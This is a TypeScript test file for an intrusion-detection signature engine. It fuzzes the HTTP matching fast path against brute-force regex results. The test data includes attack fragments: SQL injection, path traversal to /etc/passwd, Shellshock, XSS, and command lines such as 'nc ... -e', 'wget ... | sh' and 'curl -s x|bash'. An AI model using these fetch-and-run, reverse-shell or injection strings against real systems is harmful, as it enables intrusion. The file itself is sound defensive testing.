// The HTTP fast path: gate literals derived from the rules' regexes (gates.ts), the pair scanner
// that finds them (pair-scanner.ts) and the subject scan that avoids building strings
// (http-scan.ts). Each is checked against a brute-force definition on generated inputs: a gate must
// be open whenever its regex matches, the scanner must report exactly the literals that occur, the
// subject text must equal httpSubject(), and the engine must report exactly what running every
// alternative's regex on httpSubject() would.

import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { AddrSet } from '../src/decode/ip-addr.js';
import type { PacketView } from '../src/decode/packet-view.js';
import type { Detection } from '../src/detect/detection.js';
import { splitTopLevel } from '../src/detect/signatures/fields.js';
import { gateLiterals } from '../src/detect/signatures/gates.js';
import { HTTP_SCAN_SPECIALS, HttpSubjectScan } from '../src/detect/signatures/http-scan.js';
import { SignatureEngine, defaultRulesPath, httpSubject, isHttpRequest, loadRuleFile, parseRules } from '../src/detect/signatures/index.js';
import { ALWAYS, PairScanner } from '../src/detect/signatures/pair-scanner.js';
import { mulberry32 as prng } from '../bench/synth/prng.js';
import { requestView } from './support/packets.js';


const pick = <T>(rnd: () => number, a: readonly T[]): T => a[Math.floor(rnd() * a.length)];

/** The scan alphabet (gates.ts): A-Z folded, characters above U+00FF read as 0. */
function alpha(text: string): string {
  let s = '';
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    s += String.fromCharCode(c > 0xff ? 0 : c >= 0x41 && c <= 0x5a ? c + 0x20 : c);
  }
  return s;
}

/** Whether `lit` occurs in `text` as the scanner defines it (a final 0 may stand for the end). */
function occurs(lit: string, text: string): boolean {
  const t = alpha(text);
  if (t.includes(lit)) return true;
  return lit.endsWith('\u0000') && t.endsWith(lit.slice(0, -1));
}

// Pieces attacks and ordinary requests are made of, in several spellings.
const FRAGMENTS = [
  "'", '"', '`', ' or ', ' OR ', ' and ', ' AnD ', '1=1', "'1'='1", 'union', ' UNION ', 'select', 'SeLeCt', 'union all select', '/**/',
  '--', '#', ';', '|', '||', '&&', '$(', '${IFS}', '$IFS$9', '\n', '\r\n', '\t', ' ', '  ', '\u00a0', '\u2028', '\u3000', '\u0000',
  'sleep(5)', 'SLEEP (5)', 'benchmark(100,md5(1))', 'pg_sleep(', "waitfor delay '", 'extractvalue(', 'information_schema', '@@version',
  'version()', 'into outfile', 'INTO  DUMPFILE', 'drop table x', 'drop  database', '/*!50000', 'order by 3--', 'ORDER BY 12#', '../', '..\\',
  '..;/', '\u00c0\u00ae', '\u00e0\u0080\u00ae', '\u00c0\u00af', '\u00c1\u009c', '....//', '/etc/passwd', 'etc\\shadow', '/proc/self/environ',
  'win.ini', 'boot.ini', 'php://filter', 'PHP://input', '=file:///etc', '= file://c:', 'cat ', 'cat', 'id', ' id', 'whoami', 'ls;', '/bin/sh',
  '/usr/sbin/ping', 'sh', 'net  user', 'cmd /c ', 'cmd.exe /k ', 'powershell -enc ', 'PowerShell.exe -nop', 'nc 1.2.3.4 4444 -e ',
  'ncat -c', 'wget http://x/ | sh', 'curl -s x|bash', '() { :; };', '<script>', '</SCRIPT>', '< script', '<iframe', '<svg/onload=',
  '<img src=x onerror=', '" onmouseover="', "'onfocus =", 'javascript:', 'VBScript :', 'document.cookie', 'document . write', 'alert(1)',
  "prompt('", 'confirm(document', 'String.fromCharCode(', 'srcdoc=', 'Mozilla/5.0 (X11; Linux x86_64)', 'text/html;q=0.9', 'keep-alive',
  'Host: shop.example.com', 'Accept-Encoding: gzip, deflate, br', 'a', 'Z', '0', '9', '%', '%27', '+', '=', '&', '?', '/', ':', '(', ')',
];

function randomText(rnd: () => number, pieces: number): string {
  let s = '';
  for (let i = 0; i < pieces; i++) {
    const r = rnd();
    if (r < 0.85) s += pick(rnd, FRAGMENTS);
    else if (r < 0.95) s += String.fromCharCode(Math.floor(rnd() * 256));
    else s += String.fromCharCode(0x100 + Math.floor(rnd() * 0xfe00));
  }
  return s;
}

describe('signatures: gates of the default HTTP rules', () => {
  const specs = loadRuleFile(defaultRulesPath()).filter((s) => s.http && s.regex);
  const alts = specs.flatMap((s) =>
    s.regex!.alternatives.flatMap(splitTopLevel).map((src) => ({ id: s.id, src, re: new RegExp(src, s.regex!.flags), gate: gateLiterals(src, s.regex!.flags) })),
  );

  it('derive a gate for nearly every alternative', () => {
    const gated = alts.filter((a) => a.gate !== null).length;
    assert.ok(gated >= alts.length - 2, `${gated} of ${alts.length} alternatives are gated`);
  });

  it('are open whenever the alternative matches (20000 generated texts)', () => {
    const rnd = prng(7);
    let matches = 0;
    for (let round = 0; round < 20000; round++) {
      const text = randomText(rnd, 1 + Math.floor(rnd() * 8));
      for (const a of alts) {
        if (a.gate === null || !a.re.test(text)) continue;
        matches++;
        for (const set of a.gate) {
          assert.ok(
            set.some((l) => occurs(l, text)),
            `${a.id} /${a.src.slice(0, 60)}/ matches ${JSON.stringify(text)} but no member of ${JSON.stringify(set.slice(0, 8))} occurs`,
          );
        }
      }
    }
    assert.ok(matches > 5000, `the texts exercise matches (${matches})`);
  });

  it('keep normal browser requests closed for most alternatives', () => {
    const req = 'GET /search?q=how to cook pasta&page=2 HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\nAccept-Encoding: gzip, deflate, br\r\nCookie: _ga=GA1.2.1234567890.1700000000; session=abc\r\nConnection: keep-alive\r\n\r\n';
    const open = alts.filter((a) => a.gate === null || a.gate.every((set) => set.some((l) => occurs(l, req))));
    assert.ok(open.length <= 2, `open: ${open.map((a) => a.src.slice(0, 40)).join(' | ')}`);
  });
});

describe('signatures: gates of other patterns', () => {
  const patterns: [string, string][] = [
    ['abc', ''],
    ['(?:foo|bar)baz', 'i'],
    ['a[\\s;]+b(?=x|$)', 'i'],
    ['\\bse(?:lect|t)\\s*\\(', 'i'],
    ['[\\x27\\x22][ \\t]*(?:/bin/)?(?:id|ls)(?=[\\s;]|$)', 'i'],
    ['x(?=y$)', ''],
    ['\\u00e9t\\u00e9|\\u0130x', 'i'],
    ['(?:\\.|\\xc0\\xae){2,4}/', 'i'],
    ['caf\\xe9\\d{2,}', 'i'],
    ['(?<n>ab)\\k<n>cd', ''],
    ['a.b', 's'],
    ['^foo$', 'm'],
    ['k(?=$)', 'im'],
  ];
  const alphabet = ['a', 'b', 'c', 'x', 'y', 'k', 'K', '\u212a', 'foo', 'bar', 'baz', ';', ' ', '\t', '\n', '\r', '\u00a0', '\u2028', "'", '"', '/bin/', 'id', 'ID', 'ls',
    'se', 'SELECT', 'set', '(', '.', '\u00c0', '\u00e0', '\u00ae', '/', '\u00e9', '\u00c9', '\u00c9T\u00c9', '\u0130', 'i', 'I', '1', '22', 'caf', 'ab', 'cd', 'f', 'o'];
  for (const [src, flags] of patterns) {
    it(`/${src}/${flags}`, () => {
      const re = new RegExp(src, flags);
      const gate = gateLiterals(src, flags);
      const rnd = prng(src.length * 31 + flags.length);
      for (let round = 0; round < 5000; round++) {
        let text = '';
        for (let i = Math.floor(rnd() * 7); i > 0; i--) text += pick(rnd, alphabet);
        if (gate === null || !re.test(text)) continue;
        for (const set of gate) assert.ok(set.some((l) => occurs(l, text)), `${JSON.stringify(text)} matches, gate ${JSON.stringify(gate)}`);
      }
    });
  }
});

describe('signatures: gates under case-insensitive matching', () => {
  it('cover every character a latin1 character matches under (?i), up to U+FFFF', () => {
    for (let c = 0x20; c < 0x100; c++) {
      const src = `\\u${c.toString(16).padStart(4, '0')}q`;
      const re = new RegExp(`^${src}$`, 'i');
      const gate = gateLiterals(src, 'i');
      assert.notEqual(gate, null, src);
      for (let d = 0; d < 0x10000; d++) {
        const text = `${String.fromCharCode(d)}q`;
        if (!re.test(text)) continue;
        for (const set of gate!) assert.ok(set.some((l) => occurs(l, text)), `${src} matches U+${d.toString(16)}, gate ${JSON.stringify(gate)}`);
      }
    }
  });
});

describe('signatures: pair scanner', () => {
  const literals = ['%', "'", '<', 'ab', 'abc', 'xyz', 'union', 'select', ' cat ', '\ncat', 'sh\u0000', '\u0000', '..', '../', 'e', 'ee', 'eee', '\r\n\r\nx', 'a\u0000b', 'zz'];
  const scanner = new PairScanner(literals);
  const alphabet = ['a', 'b', 'c', 'A', 'B', 'x', 'y', 'z', 'Z', 'e', 'E', ' ', '\n', '\r', "'", '<', '%', '.', '/', '\u0000', 'UNION', 'Select', 'cat', 'sh', '\u00e9', '\u2028'];

  function want(text: string): string[] {
    const t = alpha(text);
    return literals.filter((l) => t.includes(l)).sort();
  }
  function got(): string[] {
    const out: string[] = [];
    for (let k = 0; k < scanner.nHits; k++) out.push(literals[scanner.hitList[k]]);
    return out.sort();
  }

  it('finds exactly the literals that occur: in bytes, at any offset, with or without 16-bit views', () => {
    const rnd = prng(11);
    const shared = new Uint8Array(4096);
    for (let round = 0; round < 4000; round++) {
      let text = '';
      for (let i = Math.floor(rnd() * 14); i > 0; i--) text += pick(rnd, alphabet);
      text = text.replace(/[^\x00-\xff]/g, '?');
      const bytes = Buffer.from(text, 'latin1');
      const off = Math.floor(rnd() * 7);
      // Half the time one buffer scanned again and again (16-bit views), else a fresh one (bytes).
      const buf = round % 2 === 0 ? shared : new Uint8Array(bytes.length + 16);
      buf.fill(0x41);
      buf.set(bytes, off);
      scanner.beginScan();
      scanner.scanBytes(buf, off, off + bytes.length, ALWAYS);
      assert.deepEqual(got(), want(text), `bytes ${JSON.stringify(text)} at ${off}`);
      scanner.beginScan();
      scanner.scanString(text, 0, text.length, ALWAYS);
      assert.deepEqual(got(), want(text), `string ${JSON.stringify(text)}`);
    }
  });

  it('finds the header end (the first CRLFCRLF) and only the literals before it', () => {
    const rnd = prng(12);
    const shared = new Uint8Array(4096);
    const parts = ['a', 'ab', 'abc', '\r\n', '\r\n\r\n', '\n', '\r', 'x', "'", 'union', '\n\n'];
    for (let round = 0; round < 4000; round++) {
      let text = '';
      for (let i = Math.floor(rnd() * 12); i > 0; i--) text += pick(rnd, parts);
      const bytes = Buffer.from(text, 'latin1');
      const off = Math.floor(rnd() * 5);
      const buf = round % 2 === 0 ? shared : new Uint8Array(bytes.length + 16);
      buf.fill(0x0a);
      buf.set(bytes, off);
      scanner.beginScan();
      const end = scanner.scanHeaders(buf, off, off + bytes.length, -off);
      const at = text.indexOf('\r\n\r\n');
      assert.equal(end, at < 0 ? -1 : off + at + 4, JSON.stringify(text));
      const head = at < 0 ? text : text.slice(0, at + 4);
      const seen: string[] = [];
      for (let k = 0; k < scanner.nHits; k++) if (scanner.minEnd[scanner.hitList[k]] <= head.length) seen.push(literals[scanner.hitList[k]]);
      assert.deepEqual(seen.sort(), want(head), JSON.stringify(text));
    }
  });

  it('matches literals ending in 0 at the end of a subject', () => {
    scanner.beginScan();
    assert.equal(scanner.endMatters('h'.charCodeAt(0)), true);
    assert.equal(scanner.endMatters('\n'.charCodeAt(0)), true, "the literal '\\0' alone matters at every end");
    scanner.matchEnd('GET /;sh');
    assert.deepEqual(got(), ['\u0000', 'sh\u0000']);
  });
});


const TARGETS = [
  '/', '/index.html', '/search?q=how+to+cook&x=1', '/a+b/c?d=e+f', '/x?id=%27+or+1%3D1', '/p?q=%2527%2520union', '/%3Fid%3Da+b', '/x?u=%u0027%u2215',
  '/x?u=%u00e9', '/dl?f=..%2F..%2Fetc%2Fpasswd', '/ping?ip=1%3Bcat+/etc/passwd', '/x?a=%zz%4', '/x?c=;id', '/x y z?q=1 2', '/x?q=%0a%0d',
];
const HEADERS = [
  'Host: h', 'User-Agent: Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/120.0', 'Accept: text/html,*/*;q=0.8', 'Cookie: a=%7B%22x%22%7D; b=c',
  'Referer: http://h/?q=%27+union+select+1', 'Content-Type: application/x-www-form-urlencoded', 'content-type:\tAPPLICATION/X-WWW-FORM-URLENCODED; charset=x',
  'Content-Type: application/json', 'Content-Type: application%2Fx-www-form-urlencoded', 'X-A: () { :; }; /bin/sh', 'X-B: <script>', 'Connection: keep-alive',
];
const BODIES = ['', 'a=1&b=%27+or+1%3D1--', 'ip=1%3B+cat+%2Fetc%2Fpasswd', '{"q":"\' or 1=1"}', 'x=%u2215+%u0027', 'q=a+b+c'];

function randomRequest(rnd: () => number): string {
  const method = pick(rnd, ['GET', 'POST', 'PUT', 'FOOBAR']);
  const eol = rnd() < 0.85 ? '\r\n' : '\n';
  let s = `${method} ${pick(rnd, TARGETS)}${rnd() < 0.9 ? ' HTTP/1.1' : ''}`;
  const n = Math.floor(rnd() * 5);
  for (let i = 0; i < n; i++) s += eol + pick(rnd, HEADERS);
  const r = rnd();
  if (r < 0.7) s += eol + eol + (rnd() < 0.5 ? pick(rnd, BODIES) : '');
  else if (r < 0.8) s += eol;
  // else: cut short, no header end
  if (rnd() < 0.1) s += `${randomText(rnd, 2)}`;
  return s;
}

describe('signatures: HTTP subject scan', () => {
  const scan = new HttpSubjectScan(new PairScanner([...HTTP_SCAN_SPECIALS, "'", 'union', 'sh\u0000', 'cat']));

  it('builds the same text as httpSubject() on every path (3000 generated requests)', () => {
    const rnd = prng(21);
    const shared = new Uint8Array(16384);
    for (let round = 0; round < 3000; round++) {
      const text = randomRequest(rnd);
      const bytes = Buffer.from(text.replace(/[^\x00-\xff]/g, '?'), 'latin1');
      if (!isHttpRequest(bytes, 0, bytes.length)) continue;
      const off = 1 + Math.floor(rnd() * 9);
      const buf = round % 3 === 0 ? new Uint8Array(bytes.length + 64) : shared;
      buf.fill(0x25, 0, Math.min(buf.length, off + bytes.length + 40));
      const v = requestView(bytes, { buf, off });
      scan.scan(v.buf, v.payloadOff, v.payloadLen);
      assert.equal(scan.text(), httpSubject(v.buf, v.payloadOff, v.payloadLen), JSON.stringify(text));
    }
  });
});

describe('signatures: the engine equals brute force', () => {
  function bruteForce(specs: ReturnType<typeof loadRuleFile>, v: PacketView): string[] {
    const subject = httpSubject(v.buf, v.payloadOff, v.payloadLen);
    const out: string[] = [];
    for (const s of specs) {
      if (!s.regex) continue;
      const pieces = s.regex.alternatives.flatMap(splitTopLevel).map((p) => new RegExp(p, s.regex!.flags));
      let m: RegExpExecArray | null = null;
      for (const re of pieces) if ((m = re.exec(subject)) !== null) break;
      if (m !== null) out.push(`${s.id}:${m[0]}`);
    }
    return out;
  }

  it('with the default rules, on generated requests (encoded, with bodies, cut short, at any offset)', () => {
    const specs = loadRuleFile(defaultRulesPath()).filter((s) => s.http);
    const e = new SignatureEngine(specs, { homeNet: new AddrSet() });
    const rnd = prng(31);
    const shared = new Uint8Array(16384);
    let alerts = 0;
    for (let round = 0; round < 4000; round++) {
      let text = randomRequest(rnd);
      // Attack text in the target or a header, sometimes at the very end of the subject.
      const attack = randomText(rnd, 1 + Math.floor(rnd() * 4)).replace(/[\r\n]/g, ' ');
      const at = text.indexOf(' ', 4);
      text = rnd() < 0.5 && at > 0 ? text.slice(0, at) + attack + text.slice(at) : text + attack;
      const bytes = Buffer.from(text.replace(/[^\x00-\xff]/g, '?'), 'latin1');
      if (!isHttpRequest(bytes, 0, bytes.length)) continue;
      const off = 1 + Math.floor(rnd() * 9);
      const buf = round % 3 === 0 ? new Uint8Array(bytes.length + 64) : shared;
      const v = requestView(bytes, { buf, off });
      const got: Detection[] = [];
      e.onPacket(v, (d) => got.push(d));
      assert.deepEqual(
        got.map((d) => `${d.ruleId}:${d.evidence.matched}`),
        bruteForce(specs, v).map((x) => (x.length > x.indexOf(':') + 121 ? x.slice(0, x.indexOf(':') + 121) : x)),
        JSON.stringify(text),
      );
      alerts += got.length;
    }
    assert.ok(alerts > 1000, `the requests exercise matches (${alerts})`);
  });

  it('on requests longer than the subject cap, with attacks around the cap', () => {
    const specs = loadRuleFile(defaultRulesPath()).filter((s) => s.http);
    const e = new SignatureEngine(specs, { homeNet: new AddrSet() });
    const rnd = prng(51);
    for (let round = 0; round < 200; round++) {
      const head = `GET /x?q=${rnd() < 0.5 ? 'a+b' : 'ab'} HTTP/1.1\r\nX-Pad: `;
      const attack = pick(rnd, ["' or 1=1", '<script>', ';cat /etc/passwd', '../../etc/passwd', ' union select 1', '%27+or+%271%27%3D%271']);
      const at = 8192 - head.length - 20 + Math.floor(rnd() * 40);
      const text = `${head}${'a'.repeat(at)}${attack}${'b'.repeat(Math.floor(rnd() * 30))}\r\n\r\n`;
      const bytes = Buffer.from(text, 'latin1');
      const v = requestView(bytes, { buf: new Uint8Array(bytes.length + 16), off: 5 });
      const got: Detection[] = [];
      e.onPacket(v, (d) => got.push(d));
      assert.deepEqual(
        got.map((d) => `${d.ruleId}:${d.evidence.matched}`),
        bruteForce(specs, v),
        `${attack} at ${head.length + at}`,
      );
    }
  });

  it('finds a command at the very end of a request cut short', () => {
    const specs = loadRuleFile(defaultRulesPath());
    const e = new SignatureEngine(specs, { homeNet: new AddrSet() });
    for (const text of ['GET /x?c=;id', 'GET /x?c=%3Bid', 'GET /x HTTP/1.1\r\nX: 1;sh', 'GET /x HTTP/1.1\nX: a|ls']) {
      const bytes = Buffer.from(text, 'latin1');
      const got: Detection[] = [];
      e.onPacket(requestView(bytes, { buf: new Uint8Array(bytes.length + 8), off: 4 }), (d) => got.push(d));
      assert.deepEqual(
        got.map((d) => d.ruleId),
        ['http-cmd-injection'],
        text,
      );
    }
  });

  it('with rules that use content, no pattern, case-sensitive and multiline patterns', () => {
    const yaml = [
      'rules:',
      '  - {id: c, http: true, content: "select", pattern: "(?i)select\\\\s+\\\\*"}',
      '  - {id: any, http: true, description: HTTP request}',
      // (Single-quoted YAML keeps backslashes as they are.)
      "  - {id: cs, http: true, pattern: ['Secret\\d+', 'X-EVIL:\\s*\\w+$']}",
      "  - {id: m, http: true, pattern: '(?m)^cookie:.*admin$'}",
      "  - {id: u, http: true, pattern: '(?i)caf\\xe9|\\u2215'}",
    ].join('\n');
    const specs = parseRules(`${yaml}\n`, 't.yaml');
    const e = new SignatureEngine(specs, { homeNet: new AddrSet() });
    const rnd = prng(41);
    const extra = ['select *', 'SELECT  *', 'Secret42', 'X-EVIL: abc', 'cookie: role=admin', 'Cookie: x=admin', 'caf%C3%A9', 'caf%E9', 'CAF%c9', '%u2215'];
    for (let round = 0; round < 1500; round++) {
      const text = `${randomRequest(rnd)}${rnd() < 0.5 ? pick(rnd, extra) : ''}`;
      const bytes = Buffer.from(text.replace(/[^\x00-\xff]/g, '?'), 'latin1');
      if (!isHttpRequest(bytes, 0, bytes.length)) continue;
      const v = requestView(bytes, { buf: new Uint8Array(bytes.length + 16), off: 3 });
      const subject = httpSubject(v.buf, v.payloadOff, v.payloadLen);
      const got: string[] = [];
      e.onPacket(v, (d) => got.push(d.ruleId));
      const want: string[] = [];
      if (/select/i.test(subject) && /select\s+\*/i.test(subject)) want.push('c');
      want.push('any');
      if (/Secret\d+/.test(subject) || /X-EVIL:\s*\w+$/.test(subject)) want.push('cs');
      if (/^cookie:.*admin$/m.test(subject)) want.push('m');
      if (/caf\xe9|\u2215/i.test(subject)) want.push('u');
      assert.deepEqual(got, want, JSON.stringify(text));
    }
  });
});
